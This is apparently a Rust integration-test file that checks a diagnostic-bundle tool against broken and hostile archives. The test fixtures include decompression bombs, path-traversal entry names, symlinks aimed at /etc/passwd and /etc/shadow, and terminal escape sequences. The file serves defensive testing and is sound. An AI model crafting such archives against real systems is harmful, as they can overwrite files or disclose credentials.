//! Broken and hostile bundles, end to end through the binary: nothing crashes, nothing escapes
//! the bundle, nothing readable is lost.
//!
//! Every run is made in a fresh temporary tree (`work/` as the current directory, `input/` for
//! the bundle), which is snapshotted before and after: the report is the only file that may
//! appear. Each run is killed and the test failed after two minutes (a hang guard), and its peak
//! resident memory is sampled while it runs.

mod gen;

use std::collections::BTreeSet;
use std::ffi::OsString;
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::util::{copy_dir, postmortem, repo, run_ok};
use gen::{Member, ZipMember};

/// Longest a single run may take before it is treated as hung: generous, since the binary under
/// test is a debug build (a 100 MB line takes it half a minute, a release build one second).
const HANG_GUARD: Duration = Duration::from_secs(120);
/// Most resident memory a run may reach, whatever the bundle holds.
const MEMORY_BOUND_KIB: u64 = 1536 << 10;

/// What one run of the binary did.
struct Run {
    code: i32,
    /// Peak resident memory, sampled while it ran.
    peak_kib: u64,
    stdout: Vec<u8>,
    stderr: String,
    report: Option<Value>,
}

impl Run {
    fn problems(&self) -> Vec<String> {
        let Some(report) = &self.report else {
            return Vec::new();
        };
        let mut out: Vec<String> = report["bundle"]["problems"]
            .as_array()
            .into_iter()
            .flatten()
            .filter_map(|p| p.as_str().map(str::to_string))
            .collect();
        for s in report["sources"].as_array().into_iter().flatten() {
            if let Some(p) = s["problem"].as_str() {
                out.push(format!("{}: {p}", s["path"].as_str().unwrap_or_default()));
            }
        }
        out
    }

    fn sources(&self) -> Vec<&Value> {
        self.report
            .as_ref()
            .and_then(|r| r["sources"].as_array())
            .map(|a| a.iter().collect())
            .unwrap_or_default()
    }

    fn source(&self, path: &str) -> Option<&Value> {
        self.sources().into_iter().find(|s| s["path"] == path)
    }

    /// Asserts a source was read and parsed into at least one record.
    fn assert_parsed(&self, path: &str) {
        let s = self
            .source(path)
            .unwrap_or_else(|| panic!("{path} missing from the report: {:#?}", self.paths()));
        assert!(
            s["records"].as_u64().unwrap_or(0) > 0,
            "{path} gave no records: {s}"
        );
    }

    /// The paths of the sources that were read (entries listed only for a problem left out).
    fn paths(&self) -> Vec<String> {
        self.sources()
            .iter()
            .filter(|s| s["problem"].is_null())
            .filter_map(|s| s["path"].as_str().map(str::to_string))
            .collect()
    }

    /// Asserts some problem (bundle-level or per source) mentions `needle`.
    fn assert_problem(&self, needle: &str) {
        let problems = self.problems();
        assert!(
            problems.iter().any(|p| p.contains(needle)),
            "no problem mentions {needle:?}: {problems:#?}"
        );
    }

    /// Exit 0, a report, and a warning on stderr naming the bundle and what went wrong.
    fn assert_partial(&self, bundle: &str) {
        assert_eq!(self.code, 0, "stderr: {}", self.stderr);
        assert!(self.report.is_some());
        assert!(
            !self.problems().is_empty(),
            "a partly unreadable bundle lists its problems"
        );
        assert!(
            self.stderr.contains("warning") && self.stderr.contains(bundle),
            "stderr names the bundle {bundle}: {}",
            self.stderr
        );
    }

    /// Exit 2, no report, and an error naming the bundle and `problem`.
    fn assert_unreadable(&self, bundle: &str, problem: &str) {
        assert_eq!(self.code, 2, "stderr: {}", self.stderr);
        assert!(self.report.is_none(), "no report for an unreadable bundle");
        assert!(
            self.stderr.contains("error") && self.stderr.contains(bundle),
            "stderr names the bundle {bundle}: {}",
            self.stderr
        );
        assert!(
            self.stderr.to_lowercase().contains(problem),
            "stderr says {problem:?}: {}",
            self.stderr
        );
    }

    fn text(&self) -> String {
        self.report
            .as_ref()
            .map(Value::to_string)
            .unwrap_or_default()
    }
}

/// A temporary tree to run in. `token` makes the names of files a hostile archive would try to
/// create unique to this test.
struct Scene {
    root: tempfile::TempDir,
    logs: tempfile::TempDir,
    token: String,
}

impl Scene {
    fn new() -> Scene {
        let root = tempfile::Builder::new()
            .prefix("postmortem-hostile-")
            .tempdir()
            .unwrap();
        std::fs::create_dir(root.path().join("work")).unwrap();
        std::fs::create_dir(root.path().join("input")).unwrap();
        let token = root
            .path()
            .file_name()
            .unwrap()
            .to_string_lossy()
            .trim_start_matches("postmortem-hostile-")
            .to_string();
        Scene {
            root,
            logs: tempfile::tempdir().unwrap(),
            token,
        }
    }

    fn work(&self) -> PathBuf {
        self.root.path().join("work")
    }

    fn input(&self, name: &str) -> PathBuf {
        self.root.path().join("input").join(name)
    }

    fn write(&self, name: &str, bytes: &[u8]) -> PathBuf {
        let p = self.input(name);
        std::fs::write(&p, bytes).unwrap();
        p
    }

    /// The name a hostile entry uses for a file it would like to create.
    fn evil(&self) -> String {
        format!("evil-{}", self.token)
    }

    /// Every place `../`, `../../` or an absolute `/tmp/` entry could have landed.
    fn evil_places(&self) -> Vec<PathBuf> {
        let evil = self.evil();
        let mut places = vec![
            self.work().join(&evil),
            self.root.path().join(&evil),
            PathBuf::from("/tmp").join(&evil),
            std::env::temp_dir().join(&evil),
        ];
        if let Some(parent) = self.root.path().parent() {
            places.push(parent.join(&evil));
        }
        places
    }

    /// `postmortem report BUNDLE --format json -o report.json ARGS...`
    fn report(&self, bundle: &Path, args: &[&str]) -> Run {
        let mut all: Vec<OsString> = vec![
            "report".into(),
            bundle.into(),
            "--format".into(),
            "json".into(),
            "-o".into(),
            "report.json".into(),
        ];
        all.extend(args.iter().map(OsString::from));
        self.run(&all, Some("report.json"))
    }

    /// Any subcommand; it must write no file at all.
    fn command(&self, args: &[&std::ffi::OsStr]) -> Run {
        let all: Vec<OsString> = args.iter().map(|a| a.to_os_string()).collect();
        self.run(&all, None)
    }

    fn run(&self, args: &[OsString], output: Option<&str>) -> Run {
        let before = tree(self.root.path());
        for place in self.evil_places() {
            assert!(!place.exists(), "{} exists before the run", place.display());
        }
        let out_path = self.logs.path().join("stdout");
        let err_path = self.logs.path().join("stderr");
        let mut child = postmortem()
            .args(args)
            .current_dir(self.work())
            .env_remove("RUST_BACKTRACE")
            .stdin(Stdio::null())
            .stdout(std::fs::File::create(&out_path).unwrap())
            .stderr(std::fs::File::create(&err_path).unwrap())
            .spawn()
            .unwrap();
        let start = Instant::now();
        let mut peak_kib = 0;
        let status = loop {
            if let Some(status) = child.try_wait().unwrap() {
                break status;
            }
            peak_kib = peak_kib.max(peak_rss_kib(child.id()));
            if start.elapsed() > HANG_GUARD {
                let _ = child.kill();
                let _ = child.wait();
                panic!("postmortem {args:?} still running after {HANG_GUARD:?}: killed");
            }
            std::thread::sleep(Duration::from_millis(10));
        };
        let stdout = std::fs::read(&out_path).unwrap();
        let stderr = String::from_utf8_lossy(&std::fs::read(&err_path).unwrap()).into_owned();
        let code = status
            .code()
            .unwrap_or_else(|| panic!("postmortem {args:?} killed by a signal: {status:?}"));
        assert_ne!(code, 101, "postmortem {args:?} panicked: {stderr}");
        assert!(!stderr.contains("panicked"), "panic: {stderr}");
        assert!(
            peak_kib < MEMORY_BOUND_KIB,
            "postmortem {args:?} reached {peak_kib} KiB resident"
        );
        assert!(
            !stderr.as_bytes().contains(&0x1b),
            "stderr passes an escape sequence through: {stderr:?}"
        );

        let after = tree(self.root.path());
        let added: Vec<&String> = after.difference(&before).collect();
        let removed: Vec<&String> = before.difference(&after).collect();
        assert!(removed.is_empty(), "the run removed {removed:?}");
        let allowed = output.map(|o| format!("work/{o}"));
        let stray: Vec<&&String> = added
            .iter()
            .filter(|a| Some(a.as_str()) != allowed.as_deref())
            .collect();
        assert!(stray.is_empty(), "the run wrote {stray:?}");
        for place in self.evil_places() {
            assert!(!place.exists(), "the bundle wrote {}", place.display());
        }

        let report = match output {
            Some(o) if code == 0 => {
                let bytes = std::fs::read(self.work().join(o)).expect("the report is written");
                let v: Value = serde_json::from_slice(&bytes).expect("the report is JSON");
                std::fs::remove_file(self.work().join(o)).unwrap();
                Some(v)
            }
            Some(o) => {
                assert!(
                    !self.work().join(o).exists(),
                    "no report is left behind when the bundle cannot be read"
                );
                None
            }
            None => None,
        };
        Run {
            code,
            peak_kib,
            stdout,
            stderr,
            report,
        }
    }
}

/// Every path under `root` (relative, `/`-separated), links not followed, with each file's size
/// so a rewritten file shows too.
fn tree(root: &Path) -> BTreeSet<String> {
    walkdir::WalkDir::new(root)
        .follow_links(false)
        .into_iter()
        .filter_map(Result::ok)
        .map(|e| {
            let rel = e.path().strip_prefix(root).unwrap().to_string_lossy();
            let len = e.metadata().map(|m| m.len()).unwrap_or(0);
            if e.file_type().is_file() {
                format!("{rel}")
                    + &if rel.starts_with("work/") {
                        String::new()
                    } else {
                        format!(" ({len} bytes)")
                    }
            } else {
                rel.into_owned()
            }
        })
        .collect()
}

/// Peak resident set size of a running process, from `/proc` (0 once it has exited).
fn peak_rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        })
        .unwrap_or(0)
}

/// A small healthy bundle's files: what must still be read next to the damage.
fn ordinary() -> Vec<(String, Vec<u8>)> {
    let base = repo().join("samples/healthy-node");
    [
        "free-m.txt",
        "uname-a.txt",
        "proc/meminfo",
        "proc/buddyinfo",
    ]
    .iter()
    .map(|p| (p.to_string(), std::fs::read(base.join(p)).unwrap()))
    .collect()
}

fn ordinary_tar<'a>(files: &'a [(String, Vec<u8>)]) -> Vec<Member<'a>> {
    files
        .iter()
        .map(|(p, d)| Member::File(p.as_bytes(), d))
        .collect()
}

fn ordinary_zip(files: &[(String, Vec<u8>)]) -> Vec<ZipMember> {
    files
        .iter()
        .map(|(p, d)| ZipMember::stored(p.as_bytes(), d))
        .collect()
}

/// The healthy files were all read and parsed.
fn assert_ordinary_read(run: &Run) {
    for (path, _) in ordinary() {
        run.assert_parsed(&path);
    }
}

fn name(p: &Path) -> String {
    p.file_name().unwrap().to_string_lossy().into_owned()
}

/// A tar of the healthy files followed by 2 MB of log text, compressed, then cut short in the
/// middle of the log.
fn truncated(extension: &str, compress: fn(&[u8]) -> Vec<u8>) {
    let scene = Scene::new();
    let files = ordinary();
    let log = gen::noise(2 << 20, 7);
    let mut members = ordinary_tar(&files);
    members.push(Member::File(b"var/log/big.log", &log));
    let whole = compress(&gen::tar(&members, true));
    let cut = &whole[..whole.len() * 7 / 10];
    let bundle = scene.write(&format!("truncated{extension}"), cut);
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    assert!(
        run.problems()
            .iter()
            .any(|p| p.contains("big.log") || p.contains("truncated")),
        "the cut is reported: {:#?}",
        run.problems()
    );

    // Cut inside the compression header: nothing can be read.
    let bundle = scene.write(&format!("stub{extension}"), &whole[..8]);
    let run = scene.report(&bundle, &[]);
    run.assert_unreadable(&name(&bundle), "truncated");
}

#[test]
fn truncated_gzip() {
    truncated(".tar.gz", gen::gzip);
}

#[test]
fn truncated_xz() {
    truncated(".tar.xz", gen::xz);
}

#[test]
fn truncated_zstd() {
    truncated(".tar.zst", gen::zstd);
}

#[test]
fn gzip_with_trailing_garbage() {
    let scene = Scene::new();
    let files = ordinary();
    let mut bytes = gen::gzip(&gen::tar(&ordinary_tar(&files), true));
    bytes.extend_from_slice(&gen::noise(5000, 3));
    let bundle = scene.write("garbage.tar.gz", &bytes);
    let run = scene.report(&bundle, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_ordinary_read(&run);
    assert_eq!(run.paths().len(), files.len(), "{:#?}", run.paths());
}

#[test]
fn zip_with_wrong_central_directory() {
    let scene = Scene::new();
    let files = ordinary();
    let mut w = gen::ZipWriter::new(Vec::new());
    for m in ordinary_zip(&files) {
        w.member(&m);
    }
    // The end record points 7 bytes past the real central directory.
    let bytes = w.finish_with(7);
    let bundle = scene.write("wrong-cd.zip", &bytes);
    let run = scene.report(&bundle, &[]);
    run.assert_unreadable(&name(&bundle), "zip");

    // A central directory entry pointing at the wrong local header.
    let mut bytes = gen::zip(&ordinary_zip(&files));
    let cd = bytes
        .windows(4)
        .position(|w| w == [0x50, 0x4b, 0x01, 0x02])
        .unwrap();
    bytes[cd + 42] = bytes[cd + 42].wrapping_add(3);
    let bundle = scene.write("wrong-offset.zip", &bytes);
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    run.assert_problem(&files[0].0);
    for (path, _) in &files[1..] {
        run.assert_parsed(path);
    }
}

#[test]
fn zip_bomb() {
    let scene = Scene::new();
    let files = ordinary();
    let bundle = scene.input("bomb.zip");
    // 64 GiB out of about 100 KiB.
    gen::zip_bomb(&bundle, &ordinary_zip(&files), 64, 1024);
    assert!(std::fs::metadata(&bundle).unwrap().len() < 1 << 20);
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    run.assert_problem("decompression bomb");
    assert_ordinary_read(&run);
}

#[test]
fn tar_bomb() {
    let scene = Scene::new();
    let files = ordinary();
    let bundle = scene.input("bomb.tar.zst");
    gen::tar_zst_bomb(&bundle, &ordinary_tar(&files), 10 << 30);
    assert!(std::fs::metadata(&bundle).unwrap().len() < 1 << 20);
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    run.assert_problem("decompression bomb");
    assert_ordinary_read(&run);
}

#[test]
fn entry_claiming_ten_gigabytes() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.push(Member::Claims(
        b"var/log/huge.log",
        10 << 30,
        b"Jan 23 12:00:00 node1 kernel: hello\n",
    ));
    let bundle = scene.write("claims.tar", &gen::tar(&members, false));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    run.assert_problem("huge.log");
    assert_ordinary_read(&run);
}

fn tiny_entries_zip(scene: &Scene, n: usize) -> PathBuf {
    let bundle = scene.input("tiny.zip");
    let mut w = gen::ZipWriter::new(std::io::BufWriter::new(
        std::fs::File::create(&bundle).unwrap(),
    ));
    for i in 0..n {
        let m = ZipMember::stored(format!("d{}/f{i}.txt", i / 1000).as_bytes(), b"x\n");
        w.member(&m);
    }
    w.finish();
    bundle
}

#[test]
fn hundred_thousand_tiny_entries() {
    let scene = Scene::new();
    let bundle = tiny_entries_zip(&scene, 100_000);
    let run = scene.report(&bundle, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.paths().len(), 100_000, "every entry is listed");
    assert!(run.problems().is_empty(), "{:#?}", &run.problems()[..5]);

    // A zip lists its entries up front: too many, and nothing is read.
    scene
        .report(&bundle, &["--max-entries", "1000"])
        .assert_unreadable(&name(&bundle), "--max-entries");

    // A tar is read until the limit, and what was read is reported.
    let names: Vec<String> = (0..5000).map(|i| format!("d/f{i}.txt")).collect();
    let members: Vec<Member<'_>> = names
        .iter()
        .map(|n| Member::File(n.as_bytes(), b"x\n"))
        .collect();
    let bundle = scene.write("tiny.tar.gz", &gen::gzip(&gen::tar(&members, true)));
    let run = scene.report(&bundle, &["--max-entries", "1000"]);
    run.assert_partial(&name(&bundle));
    run.assert_problem("--max-entries");
    let read = run
        .sources()
        .iter()
        .filter(|s| s["problem"].is_null())
        .count();
    assert!(
        (1..=1000).contains(&read),
        "{read} entries read under a limit of 1000"
    );
}

#[test]
fn traversal_and_absolute_paths() {
    let scene = Scene::new();
    let files = ordinary();
    let evil = scene.evil();
    let names = [
        format!("../{evil}"),
        format!("../../{evil}"),
        format!("../../../../../../../../tmp/{evil}"),
        format!("/tmp/{evil}"),
        format!("a/../../{evil}"),
        format!("./../{evil}"),
    ];
    let payload = b"dangerous\n";
    let mut members = ordinary_tar(&files);
    members.extend(names.iter().map(|n| Member::File(n.as_bytes(), payload)));
    let tarball = scene.write("paths.tar", &gen::tar(&members, true));
    let mut zipped = ordinary_zip(&files);
    zipped.extend(
        names
            .iter()
            .map(|n| ZipMember::stored(n.as_bytes(), payload)),
    );
    let zipfile = scene.write("paths.zip", &gen::zip(&zipped));
    for bundle in [tarball, zipfile] {
        let run = scene.report(&bundle, &[]);
        run.assert_partial(&name(&bundle));
        assert_ordinary_read(&run);
        for p in run.paths() {
            assert!(
                !p.starts_with('/') && !p.split('/').any(|c| c == ".."),
                "{p} is listed outside the bundle"
            );
        }
    }
}

#[test]
fn link_loops() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.extend([
        Member::Symlink(b"loop/a", b"b"),
        Member::Symlink(b"loop/b", b"a"),
        Member::Symlink(b"loop/self", b"self"),
        Member::Symlink(b"loop/dir", b"."),
        Member::Symlink(b"loop/up", b".."),
        Member::HardLink(b"loop/h1", b"loop/h2"),
        Member::HardLink(b"loop/h2", b"loop/h1"),
    ]);
    let bundle = scene.write("loops.tar", &gen::tar(&members, true));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    for link in ["loop/a", "loop/b", "loop/self", "loop/h1", "loop/h2"] {
        run.assert_problem(link);
    }
}

#[test]
fn symlinks_pointing_outside() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.extend([
        Member::Symlink(b"etc/passwd-rel", b"../../../../../../etc/passwd"),
        Member::Symlink(b"etc/passwd-abs", b"/etc/passwd"),
        Member::HardLink(b"etc/shadow-hard", b"/etc/shadow"),
    ]);
    let bundle = scene.write("outside.tar", &gen::tar(&members, true));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    for link in ["etc/passwd-rel", "etc/passwd-abs", "etc/shadow-hard"] {
        run.assert_problem(link);
    }
    assert!(!run.text().contains("root:x:0:0"), "/etc/passwd was read");

    let mut zipped = ordinary_zip(&files);
    zipped.push(ZipMember::symlink(b"etc/passwd-zip", b"/etc/passwd"));
    zipped.push(ZipMember::symlink(b"etc/up-zip", b"../../../../etc/passwd"));
    let bundle = scene.write("outside.zip", &gen::zip(&zipped));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    run.assert_problem("etc/passwd-zip");
    run.assert_problem("etc/up-zip");
    assert!(!run.text().contains("root:x:0:0"), "/etc/passwd was read");

    // A directory bundle with a real link to a file beside it.
    let secret = scene.input("secret.txt");
    let marker = format!("secret-marker-{}", scene.token);
    std::fs::write(&secret, format!("MemTotal: 1 kB\n{marker}\n")).unwrap();
    let dir = scene.input("bundle-dir");
    std::fs::create_dir_all(dir.join("proc")).unwrap();
    for (path, data) in &files {
        std::fs::create_dir_all(dir.join(path).parent().unwrap()).unwrap();
        std::fs::write(dir.join(path), data).unwrap();
    }
    std::os::unix::fs::symlink(&secret, dir.join("leak.txt")).unwrap();
    std::os::unix::fs::symlink("../secret.txt", dir.join("leak-rel.txt")).unwrap();
    let run = scene.report(&dir, &[]);
    run.assert_partial("bundle-dir");
    assert_ordinary_read(&run);
    run.assert_problem("leak.txt");
    run.assert_problem("leak-rel.txt");
    assert!(
        !run.text().contains(&marker),
        "a file outside the bundle was read"
    );
}

#[test]
fn duplicate_paths() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.push(Member::File(b"hostname", b"first-host\n"));
    members.push(Member::File(b"hostname", b"second-host\n"));
    let bundle = scene.write("dups.tar", &gen::tar(&members, true));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    let copies = run.paths().iter().filter(|p| *p == "hostname").count();
    assert_eq!(copies, 2, "both copies are read: {:#?}", run.paths());
    run.assert_problem("duplicate");
}

#[test]
fn duplicate_paths_in_a_zip() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_zip(&files);
    members.push(ZipMember::stored(b"hostname", b"first-host\n"));
    members.push(ZipMember::stored(b"hostname", b"second-host\n"));
    let bundle = scene.write("dups.zip", &gen::zip(&members));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    let copies = run.paths().iter().filter(|p| *p == "hostname").count();
    assert_eq!(
        copies,
        2,
        "both copies are read, as in a tar: {:#?}",
        run.paths()
    );
    run.assert_problem("duplicate");
    let host = run.report.as_ref().map(|r| r["bundle"]["hostname"].clone());
    assert_eq!(
        host,
        Some(Value::from("first-host")),
        "the first one counts"
    );
}

#[test]
fn device_nodes_and_fifos() {
    let scene = Scene::new();
    let files = ordinary();
    let mut members = ordinary_tar(&files);
    members.extend([
        Member::Special(b'3', b"dev/null"),
        Member::Special(b'4', b"dev/sda"),
        Member::Special(b'6', b"run/fifo"),
    ]);
    let bundle = scene.write("specials.tar", &gen::tar(&members, true));
    let run = scene.report(&bundle, &[]);
    run.assert_partial(&name(&bundle));
    assert_ordinary_read(&run);
    assert_eq!(run.paths().len(), files.len(), "{:#?}", run.paths());
    for special in ["dev/null", "dev/sda", "run/fifo"] {
        run.assert_problem(special);
    }

    // A directory bundle holding a FIFO nobody writes to: reading it would block for ever.
    let dir = scene.input("fifo-dir");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("free-m.txt"), &files[0].1).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(dir.join("dmesg"))
        .status()
        .unwrap();
    assert!(made.success());
    let run = scene.report(&dir, &[]);
    run.assert_partial("fifo-dir");
    run.assert_parsed("free-m.txt");
    run.assert_problem("dmesg");
}

#[test]
fn non_utf8_and_nul_bytes() {
    let scene = Scene::new();
    let files = ordinary();
    let dmesg = b"[    1.000000] Linux version 4.9.0 (gcc)\n\
[    2.000000] bad \xff\xfe bytes \xc3\x28 here\n\
[    3.000000] nul \0\0 inside\n\0\0\0\n\
[    4.000000] runc:[1:CHILD] invoked oom-killer: gfp_mask=0x24000c0\n";
    let mut members = ordinary_tar(&files);
    members.push(Member::File(b"sos_commands/kernel/dmesg", dmesg));
    members.push(Member::File(b"var/log/na\xffme\x00x.log", b"\xff\0\xfe\n"));
    let bundle = scene.write("bytes.tar", &gen::tar(&members, true));
    let run = scene.report(&bundle, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_ordinary_read(&run);
    run.assert_parsed("sos_commands/kernel/dmesg");
}

/// A log of one 100 MB line next to a readable file: the line is listed, the file parsed.
fn single_line_of_100_megabytes(path: &str, prefix: &[u8]) {
    let scene = Scene::new();
    let dir = scene.input("long-line");
    let file = dir.join(path);
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(dir.join("free-m.txt"), &ordinary()[0].1).unwrap();
    let mut line = prefix.to_vec();
    line.resize(100 << 20, b'a');
    std::fs::write(&file, &line).unwrap();
    let run = scene.report(&dir, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.assert_parsed("free-m.txt");
    let s = run.source(path).expect("the long file is listed");
    assert_eq!(s["size"].as_u64(), Some(100 << 20), "{s}");
}

#[test]
fn syslog_line_of_100_megabytes() {
    single_line_of_100_megabytes("var/log/messages", b"Jan 23 12:00:00 node1 kernel: ");
}

#[test]
fn dmesg_line_of_100_megabytes() {
    single_line_of_100_megabytes("dmesg", b"[    1.000000] ");
}

/// What the report says about each source: kind, records and warnings.
fn source_summary(run: &Run) -> Vec<(String, Value, Value, Value)> {
    run.sources()
        .iter()
        .map(|s| {
            (
                s["path"].as_str().unwrap_or_default().to_string(),
                s["kind"].clone(),
                s["records"].clone(),
                s["warnings"].clone(),
            )
        })
        .collect()
}

#[test]
fn crlf_and_non_breaking_spaces() {
    let scene = Scene::new();
    let clean = scene.input("clean");
    let mangled = scene.input("crlf");
    for (path, data) in ordinary() {
        let text = String::from_utf8(data).unwrap();
        let crlf = text
            .replace('\n', "\r\n")
            .replace("  ", " \u{a0}")
            .replace(": ", ":\u{a0}");
        for (root, content) in [(&clean, &text), (&mangled, &crlf)] {
            let file = root.join(&path);
            std::fs::create_dir_all(file.parent().unwrap()).unwrap();
            std::fs::write(file, content).unwrap();
        }
    }
    let want = scene.report(&clean, &[]);
    let run = scene.report(&mangled, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_ordinary_read(&run);
    assert_eq!(
        source_summary(&run),
        source_summary(&want),
        "CRLF and non-breaking spaces read like plain text"
    );
    assert_eq!(
        run.report.as_ref().unwrap()["bundle"]["kernel"],
        want.report.as_ref().unwrap()["bundle"]["kernel"],
    );
}

#[test]
fn json_nested_ten_thousand_levels() {
    let scene = Scene::new();
    let dir = scene.input("deep-json");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("free-m.txt"), &ordinary()[0].1).unwrap();
    let deep_array = "[".repeat(10_000) + &"]".repeat(10_000);
    let deep_object = "{\"Id\":".repeat(10_000) + "1" + &"}".repeat(10_000);
    std::fs::write(dir.join("docker-inspect.json"), &deep_array).unwrap();
    std::fs::write(dir.join("config.json"), &deep_object).unwrap();
    std::fs::write(dir.join("manifest.json"), &deep_object).unwrap();
    std::fs::write(
        dir.join("docker-events.log"),
        format!("{deep_object}\n{deep_array}\n"),
    )
    .unwrap();
    let run = scene.report(&dir, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.assert_parsed("free-m.txt");
    assert_eq!(run.paths().len(), 5, "{:#?}", run.paths());
}

#[test]
fn empty_bundles() {
    let scene = Scene::new();
    let empty_file = scene.write("empty.tar.gz", b"");
    scene
        .report(&empty_file, &[])
        .assert_unreadable("empty.tar.gz", "empty");

    let empty_tar_gz = scene.write("nothing.tar.gz", &gen::gzip(&[0u8; 1024]));
    let empty_zip = scene.write("nothing.zip", &gen::zip(&[]));
    let empty_dir = scene.input("nothing-dir");
    std::fs::create_dir(&empty_dir).unwrap();
    for bundle in [empty_tar_gz, empty_zip, empty_dir] {
        let run = scene.report(&bundle, &[]);
        run.assert_unreadable(&name(&bundle), "empty");
    }
}

#[test]
fn not_an_archive() {
    let scene = Scene::new();
    let bundle = scene.write("notes.tar.gz", b"just some notes, not an archive\n");
    scene
        .report(&bundle, &[])
        .assert_unreadable("notes.tar.gz", "not a supported bundle");
    let missing = scene.input("missing.tar.gz");
    scene
        .report(&missing, &[])
        .assert_unreadable("missing.tar.gz", "cannot open");
}

#[test]
fn tar_gz_that_is_really_a_zip() {
    let scene = Scene::new();
    let files = ordinary();
    let bundle = scene.write("disguised.tar.gz", &gen::zip(&ordinary_zip(&files)));
    let run = scene.report(&bundle, &[]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert_eq!(run.report.as_ref().unwrap()["bundle"]["container"], "zip");
    assert_ordinary_read(&run);
}

#[test]
fn terminal_escapes_never_reach_the_terminal() {
    let scene = Scene::new();
    let files = ordinary();
    let dmesg = b"[    1.000000] Linux version 4.9.0 \x1b[2J\x1b]0;pwned\x07 (gcc)\n\
[    2.000000] \x1b[31mred\x1b[0m kworker: page allocation failure: order:4, mode:0x24040c0\n\
[    3.000000] runc:[1:CHILD]\x1b[8m invoked oom-killer: gfp_mask=0x24000c0, order=0\n";
    let mut members = ordinary_tar(&files);
    members.push(Member::File(b"sos_commands/kernel/dmesg", dmesg));
    members.push(Member::File(b"hostname", b"node\x1b[1m1\n"));
    members.push(Member::File(b"var/log/\x1b[31mred.log", b"x\n"));
    members.push(Member::Symlink(b"esc-link", b"\x1b[2J/../../../x"));
    let bundle = scene.write("escapes.tar", &gen::tar(&members, true));
    let b = bundle.as_os_str();
    for args in [
        vec!["inspect".as_ref(), b],
        vec!["timeline".as_ref(), b],
        vec!["report".as_ref(), b, "--format".as_ref(), "md".as_ref()],
    ] {
        let run = scene.command(&args);
        assert_eq!(run.code, 0, "{args:?}: {}", run.stderr);
        assert!(!run.stdout.is_empty());
        assert!(
            !run.stdout.contains(&0x1b),
            "{args:?} printed an escape: {}",
            String::from_utf8_lossy(&run.stdout)
        );
    }
}

/// Most resident memory a run on a bundle of deep or long entry names may reach.
const DEEP_PATH_BOUND_KIB: u64 = 300 << 10;

/// A run on a bundle whose entry names are deep or long: it ends, the healthy files beside the
/// hostile name are read, the name is reported, and memory stays small.
fn assert_deep_name_handled(run: &Run, bundle: &Path) {
    run.assert_partial(&name(bundle));
    assert_ordinary_read(run);
    run.assert_problem("longer than 4096 bytes");
    assert!(
        run.peak_kib < DEEP_PATH_BOUND_KIB,
        "{} KiB resident for {}",
        run.peak_kib,
        name(bundle)
    );
}

#[test]
fn deep_entry_name_in_a_compressed_tar() {
    let scene = Scene::new();
    let files = ordinary();
    for depth in [65_536, 500_000] {
        let deep = format!("{}f", "d/".repeat(depth));
        let mut members = ordinary_tar(&files);
        members.push(Member::LongName(deep.as_bytes(), b"x\n"));
        let bundle = scene.write(
            &format!("deep-{depth}.tar.gz"),
            &gen::gzip(&gen::tar(&members, true)),
        );
        assert!(std::fs::metadata(&bundle).unwrap().len() < 64 << 10);
        let run = scene.report(&bundle, &[]);
        assert_deep_name_handled(&run, &bundle);
        let shown = run
            .problems()
            .into_iter()
            .find(|p| p.contains("longer than"));
        assert!(
            shown.as_ref().is_some_and(|p| p.len() < 1024),
            "the problem names the entry cut short: {shown:?}"
        );
    }
}

/// A report on `bytes` (the healthy files and hostile names) written as `file`.
fn deep_name_run(file: &str, bytes: &[u8]) {
    let scene = Scene::new();
    let bundle = scene.write(file, bytes);
    let run = scene.report(&bundle, &[]);
    assert_deep_name_handled(&run, &bundle);
}

#[test]
fn megabyte_entry_name_in_a_plain_tar() {
    let files = ordinary();
    let deep = format!("{}f", "d/".repeat(512 << 10));
    let mut members = ordinary_tar(&files);
    members.push(Member::LongName(deep.as_bytes(), b"x\n"));
    deep_name_run("deep.tar", &gen::tar(&members, true));
}

#[test]
fn deep_entry_names_in_a_zip() {
    let files = ordinary();
    let mut members = ordinary_zip(&files);
    for top in ["a", "b"] {
        let deep = format!("{top}/{}f", "d/".repeat(32_000));
        members.push(ZipMember::stored(deep.as_bytes(), b"x\n"));
    }
    deep_name_run("deep.zip", &gen::zip(&members));
}

#[test]
fn many_names_just_under_the_cap_with_links_through_them() {
    // Two thousand folders deep, the most a name within the cap can hold, many times over:
